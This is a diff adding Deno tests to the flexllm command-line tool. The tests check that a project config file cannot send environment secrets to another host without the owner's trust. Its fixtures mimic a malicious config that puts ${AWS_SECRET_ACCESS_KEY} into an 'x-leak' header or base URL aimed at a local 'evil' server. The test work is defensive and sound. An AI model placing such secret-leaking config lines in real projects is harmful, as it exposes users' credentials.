@@ -3,6 +3,7 @@ import assert from "node:assert/strict";
 import { spawnSync } from "node:child_process";
 import { existsSync } from "node:fs";
 import { commandEnv, commandLine, flexllm } from "../support/cli.ts";
+import { completion, httpAnswer, startRawServer } from "../support/raw_server.ts";
 import { temporaryFolder } from "../support/temporary_folder.ts";
 
 Deno.test("files that runtimes read by themselves change nothing", async () => {
@@ -40,4 +41,105 @@ Deno.test("without HOME the system knows the home folder", () => {
     /^0 .*config\.\w+\n$|^1 [^]*\.flexllm\/config\.yaml/,
   );
   assert.ok(!stderr.includes("unexpected"), stderr);
+});
+
+/** A server that remembers which requests it got. */
+async function server() {
+  return await startRawServer((socket) => socket.write(httpAnswer(200, completion("Yes."))));
+}
+
+const SECRETS = {
+  AWS_SECRET_ACCESS_KEY: "aws-secret-0123456789",
+  OPENAI_API_KEY: "sk-0123456789abc",
+};
+
+Deno.test("a variable of a service goes to another host only after its owner has allowed it", async () => {
+  using folder = temporaryFolder();
+  using home = temporaryFolder();
+  await using evil = await server();
+  const write = (leak: string) =>
+    folder.write(
+      "flexllm_config.yaml",
+      `models:\n  - {id: m, base_url: "${evil.baseUrl}", headers: {x-leak: "${leak}"}}\n`,
+    );
+  const env = { ...SECRETS, FLEXLLM_HOME: home.path };
+  const run = (args: string[], more = {}) =>
+    flexllm(args, { cwd: folder.path, env: { ...env, ...more } });
+  write("${AWS_SECRET_ACCESS_KEY}");
+  const { host } = new URL(evil.baseUrl);
+
+  for (const args of [["ask", "Hi"], ["chat", "Hi"], ["test"], ["models"]]) {
+    const { code, stderr } = await run(args);
+    assert.equal(code, 1, stderr);
+    const told = `${stderr}${(await run(args)).stdout}`;
+    assert.match(told, /AWS_SECRET_ACCESS_KEY would be sent to 127\.0\.0\.1/);
+    assert.match(told, /flexllm config trust/);
+  }
+  assert.equal(evil.requests.length, 0);
+  const shown = await run(["config", "show"]);
+  assert.match(shown.stdout, /headers\.x-leak +\$\{AWS_SECRET_ACCESS_KEY\} \(…6789\)/);
+  assert.ok(shown.stdout.includes(`AWS_SECRET_ACCESS_KEY would be sent to ${host}`));
+  const checked = await run(["config", "check"]);
+  assert.deepEqual([checked.code, /config trust/.test(checked.stderr)], [0, true]);
+
+  assert.equal((await run(["ask", "Hi"], { FLEXLLM_TRUST: "1" })).code, 0);
+  assert.equal(evil.requests[0].headers.get("x-leak"), SECRETS.AWS_SECRET_ACCESS_KEY);
+  assert.equal((await run(["ask", "Hi"])).code, 1, "FLEXLLM_TRUST stores nothing");
+
+  const trusted = await run(["config", "trust"]);
+  assert.deepEqual([trusted.code, /is trusted until it changes/.test(trusted.stdout)], [0, true]);
+  assert.equal((await run(["ask", "Hi"])).code, 0);
+  write("Bearer ${AWS_SECRET_ACCESS_KEY}");
+  assert.equal((await run(["ask", "Hi"])).code, 1, "other content");
+  using elsewhere = temporaryFolder();
+  elsewhere.write("flexllm_config.yaml", folder.read("flexllm_config.yaml"));
+  await run(["config", "trust"]);
+  assert.equal((await flexllm(["ask", "Hi"], { cwd: elsewhere.path, env })).code, 1, "other file");
+});
+
+Deno.test("base URLs, keys and endpoints are looked at as well; what is not used may stay", async () => {
+  await using evil = await server();
+  const { origin } = new URL(evil.baseUrl);
+  const files = [
+    `models: [{id: m, base_url: "${evil.baseUrl}", api_key: "\${OPENAI_API_KEY}"}]`,
+    `models: [{id: m, base_url: "${origin}/\${OPENAI_API_KEY}/v1"}]`,
+    `batch: {endpoints: [{model: m, base_url: "${evil.baseUrl}", api_key: "\${OPENAI_API_KEY}"}]}`,
+  ];
+  for (const text of files) {
+    using folder = temporaryFolder();
+    folder.write("flexllm_config.yaml", text);
+    const input = folder.write("in.jsonl", '{"q":"Hi"}\n');
+    const { code, stderr } = await flexllm(["batch", input, "-o", folder.file("out.jsonl")], {
+      cwd: folder.path,
+      env: SECRETS,
+    });
+    assert.match(`${code} ${stderr}`, /^1 error: .*:\d+: OPENAI_API_KEY would be sent to 127/);
+  }
+  assert.equal(evil.requests.length, 0);
+  using folder = temporaryFolder();
+  folder.write("flexllm_config.yaml", files[0]);
+  const given = ["ask", "Hi", "--api-key", "another-key"];
+  assert.equal((await flexllm(given, { cwd: folder.path, env: SECRETS })).code, 0);
+  assert.equal(evil.requests[0].headers.get("authorization"), "Bearer another-key");
+});
+
+Deno.test("own variables, files that were named, and hosts of the environment need nothing", async () => {
+  await using own = await server();
+  const cases: [text: string, args: string[], env: Record<string, string>][] = [
+    ["{api_key: '${MY_KEY}'}", [], { MY_KEY: "k" }],
+    ["{api_key: '${OPENAI_API_KEY}'}", ["--config", "flexllm_config.yaml"], SECRETS],
+    ["{api_key: '${OPENAI_API_KEY}'}", [], { ...SECRETS, FLEXLLM_CONFIG: "flexllm_config.yaml" }],
+    [
+      "{headers: {x: '${OPENAI_API_KEY}'}}",
+      ["-m", "m"],
+      { ...SECRETS, OPENAI_BASE_URL: new URL("/other", own.baseUrl).href },
+    ],
+  ];
+  for (const [text, args, env] of cases) {
+    using folder = temporaryFolder();
+    const entry = text.replace("{", `{id: m, base_url: "${own.baseUrl}", `);
+    folder.write("flexllm_config.yaml", `models: [${entry}]\n`);
+    const { code, stderr } = await flexllm(["ask", "Hi", ...args], { cwd: folder.path, env });
+    assert.equal(code, 0, stderr);
+  }
 });
